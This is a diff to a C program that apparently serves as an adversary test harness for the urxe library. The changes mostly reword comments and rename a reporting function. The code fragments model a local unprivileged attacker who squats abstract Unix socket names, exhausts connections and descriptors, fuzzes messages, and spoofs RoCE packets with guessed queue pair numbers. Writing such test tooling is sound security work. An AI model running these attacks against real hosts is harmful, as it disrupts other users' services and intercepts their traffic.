@@ -1,10 +1,8 @@
 /*
- * What another user of the host can do without privilege to the programs that use urxe:
- * `attacker KIND SECONDS ...`. It needs nothing of urxe: it looks for abstract names in
- * /proc/net/unix, and knows RoCE.
+ * Attacks of another unprivileged user of the host on programs that use urxe: `attacker KIND SECONDS ...`.
+ * It does not use urxe: it finds abstract names in /proc/net/unix, and sends RoCE packets.
  *
- * Each kind counts what it did, says it in one line at the end, and says «told» if anybody told it
- * anything.
+ * Each kind prints one line with its counts at the end, and a line «leaked» for each reply that it got.
  */
 #include <arpa/inet.h>
 #include <errno.h>
@@ -51,13 +49,13 @@ static int goes_on(void)
 	return now() < ends_at;
 }
 
-static void told(const char *by, ssize_t bytes)
+static void leaked(const char *by, ssize_t bytes)
 {
-	printf("told %zd bytes by %s\n", bytes, by);
+	printf("leaked %zd bytes by %s\n", bytes, by);
 	fflush(stdout);
 }
 
-/* Notes the abstract names that begin with urxe/, as everybody can read them. */
+/* Collects the abstract names that begin with urxe/, which every user can read. */
 static void find_names(void)
 {
 	FILE *file = fopen("/proc/net/unix", "r");
@@ -92,7 +90,7 @@ static int unix_socket(int kind)
 	return socket(AF_UNIX, kind | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
 }
 
-/* A socket of this kind that sends to a name; -1 if it cannot. */
+/* Returns a socket of this type connected to a name, or -1. */
 static int reach(const char *name, int kind)
 {
 	struct sockaddr_un address;
@@ -108,7 +106,7 @@ static int reach(const char *name, int kind)
 	return fd;
 }
 
-/* How many descriptors this process may have, leaving some to itself. */
+/* Returns the limit of descriptors, less a reserve. */
 static unsigned long most_descriptors(void)
 {
 	struct rlimit limit;
@@ -122,7 +120,7 @@ static unsigned long most_descriptors(void)
 
 static const int kinds[] = {SOCK_SEQPACKET, SOCK_DGRAM, SOCK_STREAM};
 
-/* A TCP socket whose last close blocks: it has data under way to `peer`, which never reads. */
+/* Returns a TCP socket whose last close blocks: it has unsent data to `peer`, which never reads. */
 static int blocking_descriptor(int *peer)
 {
 	struct sockaddr_in address = {
@@ -172,8 +170,8 @@ static void count(ssize_t sent)
 }
 
 /*
- * Descriptors that block when they are closed, in messages to every name. The receiver's close must
- * be the last one: messages before it keep the receiver busy until this process has closed its own.
+ * Sends descriptors that block when they are closed to every name. The receiver's close must be the last
+ * one: messages before it keep the receiver busy until this process has closed its own.
  */
 static void descriptors(void)
 {
@@ -214,7 +212,7 @@ static void descriptors(void)
 	}
 }
 
-/* As many connections to every name as there can be, held open and made again. */
+/* Opens as many connections to every name as possible, keeps them open, and repeats. */
 static void connections(void)
 {
 	static int held[MOST_HELD];
@@ -241,7 +239,7 @@ static void connections(void)
 	}
 }
 
-/* Messages of any bytes and sizes to every name, and the question for counters. */
+/* Sends messages of random bytes and sizes to every name, and requests for counters. */
 static void messages(void)
 {
 	static uint8_t bytes[1 << 17];
@@ -265,11 +263,11 @@ static void messages(void)
 				if (to < 0)
 					continue;
 				count(send(to, question, 4, MSG_NOSIGNAL));
-				/* One that is hung up on is readable at once. */
+				/* A closed connection is readable. */
 				poll(&wait, 1, 50);
 				length = recv(to, answer, sizeof(answer), 0);
 				if (length > 0)
-					told(names[name], length);
+					leaked(names[name], length);
 				for (i = 0; i < 50; i++) {
 					memcpy(bytes, i % 2 ? "urxf\1\4" : "urxq", 6);
 					count(send(to, bytes, sizes[i % 8], MSG_NOSIGNAL));
@@ -280,7 +278,7 @@ static void messages(void)
 	}
 }
 
-/* Takes names before others do, and those that become free. */
+/* Takes names before other processes do, and those that become free. */
 static void take_names(int count_of_slots, int first)
 {
 	static const char *const slots[] = {"urxe/slot/%d", "urxe/link/%d", "urxe/alive/%d",
@@ -292,7 +290,7 @@ static void take_names(int count_of_slots, int first)
 	printf("taking\n");
 	fflush(stdout);
 	while (goes_on()) {
-		/* The names of others' listeners, at all slots and addresses. */
+		/* The names of other processes' listeners, at all slots and addresses. */
 		find_names();
 		for (i = 0; i < name_count + count_of_slots; i++) {
 			for (form = 0; form < 4; form++) {
@@ -325,14 +323,14 @@ static void take_names(int count_of_slots, int first)
 				}
 			}
 		}
-		/* Whoever takes these for a process of urxe's says something. */
+		/* A process that takes this one for urxe sends a message. */
 		for (i = 0; i < held_count; i++) {
 			int other = accept(held[i], NULL, NULL);
 			int from = other >= 0 ? other : held[i];
 			ssize_t length = recv(from, answer, sizeof(answer), MSG_DONTWAIT);
 
 			if (length > 0)
-				told("who came to a name of ours", length);
+				leaked("a client of a squatted name", length);
 			if (other >= 0)
 				close(other);
 		}
@@ -411,8 +409,8 @@ static void bth(uint8_t *packet, uint8_t opcode, uint32_t qpn, uint32_t psn)
 }
 
 /*
- * Packets from the peer's own address, with queue pairs and PSNs that are guessed; probes; messages
- * to queue pair 1.
+ * Sends packets from the peer's address with guessed queue pair numbers and PSNs; probes; messages to
+ * queue pair 1.
  */
 static void packets(const char *address)
 {
@@ -431,7 +429,7 @@ static void packets(const char *address)
 		for (at = 0; at < length; at++)
 			packet[at] = rand();
 		switch (rand() % 4) {
-		case 0: /* A message to queue pair 1: communication management, of any contents. */
+		case 0: /* A MAD to queue pair 1 with random contents. */
 			length = 12 + 8 + 256;
 			bth(packet, 0x64, 1, rand() & 0xffffff);
 			memcpy(packet + 12, "\x80\x01\0\0\0\0\0\1", 8);
@@ -439,12 +437,12 @@ static void packets(const char *address)
 			packet[36] = 0;
 			packet[37] = 0x10 + rand() % 12;
 			break;
-		case 1: /* A probe, or what is meant for a slot that nobody has. */
+		case 1: /* A probe, or a packet for an empty slot. */
 			length = 28;
 			bth(packet, rand() % 2 ? 0xff : 4, 0xff0000 | rand() % 16, 0);
 			memcpy(packet + 8, "urxp", 4);
 			break;
-		case 2: /* Too short, or nothing of RoCE. */
+		case 2: /* Too short, or not RoCE. */
 			length = rand() % 16;
 			break;
 		default:
@@ -453,11 +451,11 @@ static void packets(const char *address)
 		send_packet(fd, &from, &to, packet, length);
 		/* Answers to probes have 24 bytes, and nothing else is answered to this port. */
 		if (recv(fd, answer, sizeof(answer), MSG_DONTWAIT) > 28)
-			told("port 4791", 0);
+			leaked("port 4791", 0);
 	}
 }
 
-/* Requests for a queue pair whose number and PSN are known, ahead of the next one. */
+/* Sends requests ahead of the expected PSN to a queue pair whose number and PSN are known. */
 static void ahead(const char *address, uint32_t qpn, uint32_t psn)
 {
 	struct sockaddr_in from, to;
@@ -466,14 +464,14 @@ static void ahead(const char *address, uint32_t qpn, uint32_t psn)
 
 	memset(packet, 0xee, sizeof(packet));
 	for (distance = 1; distance <= 1000; distance++) {
-		/* SEND ONLY: it would be a message of its own. */
+		/* SEND ONLY: a complete message. */
 		bth(packet, 4, qpn, (psn + distance) & 0xffffff);
 		send_packet(fd, &from, &to, packet, 12 + 64);
 		usleep(100);
 	}
 }
 
-/* The port of others. */
+/* Tries to bind port 4791 of another user. */
 static void port(const char *address)
 {
 	static const char *const wildcards[] = {NULL, "0.0.0.0"};
